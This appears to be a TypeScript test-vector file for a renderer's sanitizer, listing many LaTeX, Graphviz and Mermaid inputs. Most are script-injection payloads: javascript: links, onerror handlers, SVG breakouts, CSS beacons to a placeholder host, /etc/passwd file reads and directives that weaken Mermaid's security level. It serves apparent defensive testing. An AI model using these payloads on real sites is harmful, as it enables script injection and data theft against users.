// What is drawn from text: formulas, graphs and diagrams.
import type { Family, Row } from '../vector.ts';

const r = String.raw;
const fence = (info: string, text: string) => `\`\`\`${info}\n${text}\n\`\`\``;
const display = (tex: string) => `$$\n${tex}\n$$`;

export const MATH: Family = {
  family: 'Formula',
  rows: [
    ['href', display(r`\href{javascript:@js}{x}`)],
    ['href in a line', r`a $\href{javascript:@js}{x}$ b`],
    ['href of data', display(r`\href{data:text/html,<script>@js</script>}{x}`)],
    ['url', display(r`\url{javascript:@js}`)],
    ['image', display(r`\includegraphics[height=1em,alt=x]{@url.png}`)],
    ['class', display(r`\htmlClass{search-dialog" onclick="@js}{x}`)],
    ['id', display(r`\htmlId{main}{x}`)],
    ['style', display(r`\htmlStyle{background:url(@url.png)}{x}`)],
    ['data', display(r`\htmlData{x=" onclick="@js, live-href=javascript:@js}{x}`)],
    ['MathJax class and style', display(r`\class{x}{\style{background:url(@url.png)}{\cssId{main}{x}}}`)],
    ['MathJax require', display(r`\require{action}\toggle{x}{y}\endtoggle \unicode{x41}`)],
    ['element in text', display(r`\text{<img src=x onerror=@js>}`)],
    ['end of an annotation', display(r`x</annotation></semantics></math><img src=x onerror=@js>`)],
    ['end of an annotation in text', display(r`\text{</annotation></semantics></math><script>@js</script>}`)],
    ['error that repeats its input', display(r`\<img src=x onerror=@js>`)],
    ['error with an element', display(r`\undefined{<img src=x onerror=@js>}`)],
    ['colour', display(r`\color{red;background:url(@url.png)}x \textcolor{"><img src=x onerror=@js>}{y}`)],
    ['colour box', display(r`\colorbox{url(@url.png)}{x} \fcolorbox{x" onclick="@js}{y}{z}`)],
    ['tag', display(r`x \tag{<img src=x onerror=@js>}`)],
    ['macro', display(r`\def\x{\href{javascript:@js}{y}}\x\x`)],
    ['macro that grows', display(r`\def\a{\b\b}\def\b{\c\c}\def\c{\d\d}\def\d{<img src=x onerror=@js>}\a\a`)],
    ['operator', display(r`\operatorname{<svg onload=@js>} \mathrm{</math><img src=x onerror=@js>}`)],
    ['character', display(r`\char"3C\text{img src=x onerror=@js}\char"3E`)],
    ['entities', display(r`&lt;img src=x onerror=@js&gt;`)],
    ['block of code', fence('math', r`\href{javascript:@js}{x} \text{<img src=x onerror=@js>}`)],
    ['brackets', r`\(\href{javascript:@js}{x}\) \[\text{<img src=x onerror=@js>}\]`],
    ['environment', '\\begin{align}\n\\href{javascript:@js}{x} &= <img src=x onerror=@js>\n\\end{align}'],
  ],
};

export const GRAPHVIZ: Family = {
  family: 'Graphviz',
  rows: [
    ['address of a node', fence('dot', 'digraph { a [URL="javascript:@js" label="x"] }')],
    [
      'address of an edge',
      fence('dot', 'digraph { a -> b [URL="javascript:@js" edgeURL="javascript:@js" headURL="javascript:@js" label="x"] }'),
    ],
    ['address of a label', fence('dot', 'digraph { a -> b [labelURL="javascript:@js" label="x"] }')],
    ['address of a cluster', fence('dot', 'digraph { URL="javascript:@js"; subgraph cluster_x { href="javascript:@js"; label="x"; a } }')],
    ['address with entities', fence('dot', 'digraph { a [URL="java&#115;cript:@js"] }')],
    ['address of data', fence('dot', 'digraph { a [href="data:text/html,<script>@js</script>"] }')],
    ['target', fence('dot', 'digraph { a [URL="@url" target="_top"] }')],
    ['tooltip', fence('dot', 'digraph { a [tooltip="\\" onclick=\\"@js"] b [tooltip="</title></a><script>@js</script>"] }')],
    ['label', fence('dot', 'digraph { a [label="</text></svg><script>@js</script>"] }')],
    ['label of HTML', fence('dot', 'digraph { a [label=<<TABLE><TR><TD HREF="javascript:@js" TITLE="x">x</TD></TR></TABLE>>] }')],
    ['label of HTML with an image', fence('dot', 'digraph { a [label=<<TABLE><TR><TD><IMG SRC="@url.png"/></TD></TR></TABLE>>] }')],
    ['label of HTML with a script', fence('dot', 'digraph { a [label=<<SCRIPT>@js</SCRIPT>>] }')],
    [
      'label of HTML with a font',
      fence('dot', 'digraph { a [label=<<FONT FACE="x&quot; onclick=&quot;@js" COLOR="red&quot; onclick=&quot;@js">x</FONT>>] }'),
    ],
    ['image', fence('dot', 'digraph { a [image="@url.png" shape=none] }')],
    ['image of a file', fence('dot', 'digraph { a [image="/etc/passwd" shape=none] b [shapefile="/etc/passwd"] }')],
    ['style sheet', fence('dot', 'digraph { stylesheet="@url.css"; a }')],
    [
      'style sheet that breaks out',
      fence('dot', 'digraph { stylesheet="x?><script xmlns=\'http://www.w3.org/1999/xhtml\'>@js</script><?"; a }'),
    ],
    ['id', fence('dot', 'digraph { id="main"; a [id="search-dialog"] b [id="\\" onclick=\\"@js"] }')],
    ['class', fence('dot', 'digraph { a [class="search-dialog\\" onclick=\\"@js"] }')],
    ['colour', fence('dot', 'digraph { a [style=filled fillcolor="url(@url.png)" color="red\\" onclick=\\"@js"] }')],
    ['font', fence('dot', 'digraph { a [fontname="x\\" onclick=\\"@js"] b [fontname="url(@url.woff)"] }')],
    ['comment', fence('dot', 'digraph { a [comment="--><script>@js</script><!--"] }')],
    ['title', fence('dot', 'digraph "</title><script>@js</script>" { a }')],
    ['name of a node', fence('dot', 'digraph { "</title><script>@js</script>" -> "--><img src=x onerror=@js>" }')],
    ['title of its block', fence('dot title="<img src=x onerror=@js>"', 'digraph { a }')],
    ['error', fence('dot', 'digraph { <img src=x onerror=@js> ')],
    ['file to include', fence('graphviz', 'digraph { _background="I 0 0 9 9 9 -/etc/passwd"; a [xdotversion="1.7"] }')],
  ],
};

/** Directives and settings that try to loosen what the portal has set. */
const LOOSE: readonly Row[] = [
  ['init', `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\n`],
  ['initialize', `%%{initialize: {'securityLevel': 'loose', 'secure': []}}%%\n`],
  ['front matter', `---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  secure: []\n---\n`],
  ['antiscript', `%%{init: {"securityLevel": "antiscript", "startOnLoad": true}}%%\n`],
  ['sandbox', `%%{init: {"securityLevel": "sandbox"}}%%\n`],
];

const mermaid = (text: string) => fence('mermaid', text);

export const MERMAID: Family = {
  family: 'Mermaid',
  rows: [
    ...LOOSE.flatMap(([name, directive]): Row[] => [
      [
        `${name}, then a link`,
        mermaid(`${directive}flowchart TD\n  A[x] --> B[y]\n  click A href "javascript:@js"\n  click B "javascript:@js" _self`),
      ],
      [`${name}, then a call`, mermaid(`${directive}flowchart TD\n  A[x]\n  click A call hit(@id)`)],
      [
        `${name}, then an element`,
        mermaid(
          `${directive}flowchart TD\n  A["<img src=x onerror=@js>"] -->|"<svg onload=@js>"| B["<iframe srcdoc='<script>parent.@js</script>'>"]`,
        ),
      ],
    ]),
    ['link', mermaid('flowchart TD\n  A[x]\n  click A href "javascript:@js" "tip" _blank')],
    ['link of data', mermaid('flowchart TD\n  A[x]\n  click A href "data:text/html,<script>@js</script>"')],
    ['link with a tab', mermaid('flowchart TD\n  A[x]\n  click A href "java\tscript:@js"')],
    ['link with entities', mermaid('flowchart TD\n  A[x]\n  click A href "java&#115;cript:@js"')],
    ['link with codes of Mermaid', mermaid('flowchart TD\n  A["#lt;img src=x onerror=@js#gt;"]\n  click A href "java#115;cript:@js"')],
    ['call', mermaid('flowchart TD\n  A[x]\n  click A hit "@id"\n  click A call alert("@id")')],
    ['tip', mermaid('flowchart TD\n  A[x]\n  click A "#" "<img src=x onerror=@js>"')],
    [
      'label',
      mermaid('flowchart TD\n  A["<img src=x onerror=@js>"] --> B["<script>@js</script>"] --> C["<a href=\'javascript:@js\'>x</a>"]'),
    ],
    ['label with an image', mermaid('flowchart TD\n  A["<img src=\'@url.png\'>"] --> B["![x](@url.png)"]')],
    ['label of Markdown', mermaid('flowchart TD\n  A["`**x** <img src=x onerror=@js> [y](javascript:@js)`"]')],
    ['label with a style', mermaid('flowchart TD\n  A["<style>@import url(@url.css);</style>x"]')],
    ['label with a formula', mermaid('flowchart TD\n  A["$$\\\\href{javascript:@js}{x}$$"] --> B["$$\\\\includegraphics{@url.png}$$"]')],
    ['image of a node', mermaid('flowchart TD\n  A@{ img: "@url.png", label: "x", pos: "t", w: 60, h: 60, constraint: "on" }')],
    ['image of a node by script', mermaid('flowchart TD\n  A@{ img: "javascript:@js", label: "<img src=x onerror=@js>" }')],
    [
      'icon of a node',
      mermaid('flowchart TD\n  A@{ icon: "x:<img src=x onerror=@js>", label: "x" } --> B[fa:fa-ban"><img src=x onerror=@js> y]'),
    ],
    ['style of a node', mermaid('flowchart TD\n  A[x]\n  style A fill:url(@url.png),background:url(@url.png),cursor:url(@url.png)')],
    ['style of a class', mermaid('flowchart TD\n  A[x]:::c\n  classDef c fill:#fff,background-image:url(@url.png),mask:url(@url.svg#x)')],
    ['style that breaks out', mermaid('flowchart TD\n  A[x]:::c\n  classDef c fill:red}body{display:none}.x{color:red')],
    ['style of a link', mermaid('flowchart TD\n  A --> B\n  linkStyle 0 stroke:red,filter:url(@url.svg#x),marker-end:url(@url.svg#x)')],
    ['class by name', mermaid('flowchart TD\n  A[x]\n  class A search-dialog\n  class A x"onclick="@js')],
    ['id of a node', mermaid('flowchart TD\n  main[x] --> search-dialog[y] --> __proto__[z] --> constructor[w]')],
    ['id that breaks out', mermaid('flowchart TD\n  subgraph "x\\" onclick=\\"@js" ["<img src=x onerror=@js>"]\n  A\n  end')],
    [
      'theme CSS',
      mermaid(
        '%%{init: {"themeCSS": "@import url(@url.css); body { display: none } * { background: url(@url.png) }"}}%%\nflowchart TD\n  A[x]',
      ),
    ],
    [
      'theme CSS by front matter',
      mermaid('---\nconfig:\n  themeCSS: ":root { display: none } .node rect { fill: url(@url.png) }"\n---\nflowchart TD\n  A[x]'),
    ],
    [
      'theme CSS that is nested',
      mermaid(
        '---\nconfig:\n  themeCSS: ".node { body:has(&) { display: none } :root & { cursor: url(@url.png) } }"\n---\nflowchart TD\n  A[x]',
      ),
    ],
    [
      'variables of a theme',
      mermaid(
        '%%{init: {"theme": "base", "themeVariables": {"primaryColor": "red;background:url(@url.png)", "lineColor": "red}body{display:none", "fontSize": "url(@url.png)"}}}%%\nflowchart TD\n  A[x]',
      ),
    ],
    [
      'font',
      mermaid(
        '%%{init: {"fontFamily": "x;} @font-face{font-family:x;src:url(@url.woff)} a{", "themeVariables": {"fontFamily": "url(@url.woff)"}}}%%\nflowchart TD\n  A[x]',
      ),
    ],
    [
      'font of a sequence',
      mermaid(
        '---\nconfig:\n  sequence:\n    actorFontFamily: "x;background:url(@url.png)"\n    messageFontFamily: "<img src=x onerror=@js>"\n---\nsequenceDiagram\n  A->>B: x',
      ),
    ],
    [
      'prototype by directive',
      mermaid(
        '%%{init: {"__proto__": {"securityLevel": "loose"}, "constructor": {"prototype": {"onclick": "@js"}}}}%%\nflowchart TD\n  A[x]\n  click A href "javascript:@js"',
      ),
    ],
    [
      'purifier by directive',
      mermaid(
        '%%{init: {"dompurifyConfig": {"ADD_TAGS": ["script", "iframe"], "ADD_ATTR": ["onclick", "onerror"]}, "htmlLabels": true}}%%\nflowchart TD\n  A["<img src=x onerror=@js>"] --> B["<iframe src=\'javascript:parent.@js\'>"]',
      ),
    ],
    [
      'arrows by directive',
      mermaid('%%{init: {"arrowMarkerAbsolute": true, "deterministicIDSeed": "\\"><img src=x onerror=@js>"}}%%\nflowchart TD\n  A --> B'),
    ],
    ['maximum by directive', mermaid('%%{init: {"maxTextSize": 99999999, "maxEdges": 99999999}}%%\nflowchart TD\n  A --> B')],
    [
      'layout by directive',
      mermaid('---\nconfig:\n  layout: "@url"\n  look: "\\"><img src=x onerror=@js>"\n  theme: "__proto__"\n---\nflowchart TD\n  A --> B'),
    ],
    ['title', mermaid('---\ntitle: "<img src=x onerror=@js></title><script>@js</script>"\n---\nflowchart TD\n  A[x]')],
    [
      'accessible title',
      mermaid('flowchart TD\n  accTitle: </title><img src=x onerror=@js>\n  accDescr: </desc><script>@js</script>\n  A[x]'),
    ],
    [
      'sequence link',
      mermaid(
        'sequenceDiagram\n  participant A\n  link A: x @ javascript:@js\n  links A: {"y": "javascript:@js", "<img src=x onerror=@js>": "@url"}\n  A->>A: z',
      ),
    ],
    [
      'sequence properties',
      mermaid(
        'sequenceDiagram\n  participant A\n  properties A: {"class": "x\\" onclick=\\"@js", "icon": "@url.png", "type": "@clock"}\n  A->>A: z',
      ),
    ],
    ['sequence details', mermaid('sequenceDiagram\n  participant A\n  details A: main\n  A->>A: <img src=x onerror=@js><br onclick=@js>')],
    [
      'sequence note',
      mermaid(
        'sequenceDiagram\n  participant A as <img src=x onerror=@js>\n  Note over A: <svg onload=@js> $$\\href{javascript:@js}{x}$$\n  box url(@url.png) x\n  participant B\n  end\n  A->>B: x',
      ),
    ],
    ['class link', mermaid('classDiagram\n  class A\n  link A "javascript:@js" "tip"\n  click A href "javascript:@js"')],
    ['class call', mermaid('classDiagram\n  class A\n  callback A "hit" "<img src=x onerror=@js>"\n  click A call hit(@id)')],
    [
      'class member',
      mermaid(
        'classDiagram\n  class A["<img src=x onerror=@js>"] {\n    +x~<script>~ y\n    <svg onload=@js>()\n  }\n  note for A "<img src=x onerror=@js>"',
      ),
    ],
    [
      'state',
      mermaid(
        'stateDiagram-v2\n  s: <img src=x onerror=@js>\n  [*] --> s : <svg onload=@js>\n  note right of s\n    <script>@js</script>\n  end note\n  click s href "javascript:@js"',
      ),
    ],
    [
      'entity',
      mermaid('erDiagram\n  "A <img src=x onerror=@js>" ||--o{ B : "<svg onload=@js>"\n  B {\n    string x "<script>@js</script>"\n  }'),
    ],
    [
      'gantt link',
      mermaid(
        'gantt\n  dateFormat YYYY-MM-DD\n  section <img src=x onerror=@js>\n  x :a1, 2026-01-01, 3d\n  click a1 href "javascript:@js"\n  click a1 call hit(@id)',
      ),
    ],
    [
      'gantt task',
      mermaid(
        'gantt\n  title <script>@js</script>\n  dateFormat YYYY-MM-DD\n  axisFormat <img src=x onerror=@js>\n  <svg onload=@js> :a1, 2026-01-01, 3d',
      ),
    ],
    ['pie', mermaid('pie title <img src=x onerror=@js>\n  "<svg onload=@js>" : 3\n  "x" : 4')],
    [
      'journey',
      mermaid('journey\n  title <img src=x onerror=@js>\n  section <svg onload=@js>\n    <script>@js</script>: 5: <img src=x onerror=@js>'),
    ],
    [
      'git graph',
      mermaid('gitGraph\n  commit id: "<img src=x onerror=@js>" tag: "<svg onload=@js>"\n  branch "<script>@js</script>"\n  commit'),
    ],
    [
      'mind map',
      mermaid(
        'mindmap\n  root((<img src=x onerror=@js>))\n    <svg onload=@js>\n    ::icon(x"><img src=x onerror=@js>)\n    y\n    :::search-dialog" onclick="@js',
      ),
    ],
    ['timeline', mermaid('timeline\n  title <img src=x onerror=@js>\n  2026 : <svg onload=@js> : <script>@js</script>')],
    [
      'quadrant',
      mermaid(
        'quadrantChart\n  title <img src=x onerror=@js>\n  x-axis "<svg onload=@js>"\n  "<script>@js</script>": [0.3, 0.6] radius: 12, color: #ff3300, stroke-color: #10f0f0',
      ),
    ],
    [
      'requirement',
      mermaid(
        'requirementDiagram\n  requirement x {\n    id: 1\n    text: "<img src=x onerror=@js>"\n    risk: high\n    verifymethod: test\n  }\n  element y {\n    type: "<svg onload=@js>"\n    docref: "javascript:@js"\n  }\n  y - satisfies -> x',
      ),
    ],
    [
      'C4',
      mermaid(
        'C4Context\n  title <img src=x onerror=@js>\n  Person(a, "<svg onload=@js>", "<script>@js</script>", $sprite="x\\" onclick=\\"@js", $link="javascript:@js")\n  System(b, "x", $link="javascript:@js")\n  Rel(a, b, "<img src=x onerror=@js>", $link="javascript:@js")\n  UpdateElementStyle(a, $bgColor="url(@url.png)", $fontColor="red\\" onclick=\\"@js")',
      ),
    ],
    ['C4 image', mermaid('C4Context\n  Person(a, "x", "y", "@url.png")\n  Person_Ext(b, "x", "y", "external_person")')],
    ['sankey', mermaid('sankey-beta\n"<img src=x onerror=@js>","<svg onload=@js>",10')],
    [
      'XY chart',
      mermaid(
        'xychart-beta\n  title "<img src=x onerror=@js>"\n  x-axis ["<svg onload=@js>", b]\n  y-axis "<script>@js</script>" 0 --> 9\n  bar [3, 4]',
      ),
    ],
    [
      'block',
      mermaid(
        'block-beta\n  a["<img src=x onerror=@js>"] b["<svg onload=@js>"]\n  a -- "<script>@js</script>" --> b\n  style a fill:url(@url.png),background:url(@url.png)\n  classDef c fill:red}body{display:none}',
      ),
    ],
    ['packet', mermaid('packet-beta\n  title <img src=x onerror=@js>\n  0-15: "<svg onload=@js>"')],
    [
      'kanban',
      mermaid(
        '---\nconfig:\n  kanban:\n    ticketBaseUrl: "javascript:@js//#TICKET#"\n---\nkanban\n  a[<img src=x onerror=@js>]\n    b[<svg onload=@js>]@{ ticket: "X-1", assigned: "<img src=x onerror=@js>", icon: "@url.png" }',
      ),
    ],
    [
      'architecture',
      mermaid(
        'architecture-beta\n  group g(cloud)[x]\n  service a("<img src=x onerror=@js>")[y] in g\n  service b(x:y)[z] in g\n  a:R --> L:b',
      ),
    ],
    [
      'radar',
      mermaid(
        'radar-beta\n  title <img src=x onerror=@js>\n  axis a["<svg onload=@js>"], b["x"], c["y"]\n  curve d["<script>@js</script>"]{1, 2, 3}',
      ),
    ],
    [
      'treemap',
      mermaid(
        'treemap-beta\n"<img src=x onerror=@js>"\n  "<svg onload=@js>": 4:::c\nclassDef c fill:url(@url.png),background:url(@url.png)',
      ),
    ],
    ['tree view', mermaid('treeView-beta\n  "<img src=x onerror=@js>"\n    "<svg onload=@js>"')],
    ['event model', mermaid('eventmodeling\n\ntf 01 ui A { "<img src=x onerror=@js>" }\ntf 02 cmd B `html`{ <script>@js</script> }')],
    [
      'venn',
      mermaid(
        'venn-beta\n  title "<img src=x onerror=@js>"\n  set A["<svg onload=@js>"]\n  set B\n  union A,B["<script>@js</script>"]\n  style A fill:url(@url.png)',
      ),
    ],
    ['ishikawa', mermaid('ishikawa-beta\n  <img src=x onerror=@js>\n    <svg onload=@js>\n      x')],
    [
      'wardley',
      mermaid(
        'wardley-beta\ntitle <img src=x onerror=@js>\ncomponent "<svg onload=@js>" [0.5, 0.5]\nnote "<script>@js</script>" [0.3, 0.3]',
      ),
    ],
    [
      'cynefin',
      mermaid(
        'cynefin-beta\n  title <img src=x onerror=@js>\n  complex\n    "<svg onload=@js>"\n  complex --> clear : "<script>@js</script>"',
      ),
    ],
    [
      'use case',
      mermaid('usecase-beta\nactor A("<img src=x onerror=@js>")\nB("<svg onload=@js>")\nA --> B\nclick B href "javascript:@js"'),
    ],
    ['railroad', mermaid('railroad-ebnf-beta\nx = "<img src=x onerror=@js>" | "</text></svg><script>@js</script>" ;')],
    [
      'swimlanes',
      mermaid('swimlane-beta LR\n  subgraph "<img src=x onerror=@js>"\n    A["<svg onload=@js>"]\n  end\n  click A href "javascript:@js"'),
    ],
    [
      'agent flow',
      mermaid(
        'agentflow-beta TB\n  connector c["<img src=x onerror=@js>"]\n  c@{ protocol: "http", endpoint: "javascript:@js" }\n  a["<svg onload=@js>"]@{ shape: tool, connectorRef: "c.x", img: "@url.png" }',
      ),
    ],
    ['error that repeats its input', mermaid('flowchart TD\n  A[[[<img src=x onerror=@js>')],
    ['type that is not known', mermaid('<img src=x onerror=@js>')],
    ['title of its block', fence('mermaid title="<img src=x onerror=@js>"', 'flowchart TD\n  A')],
  ],
};
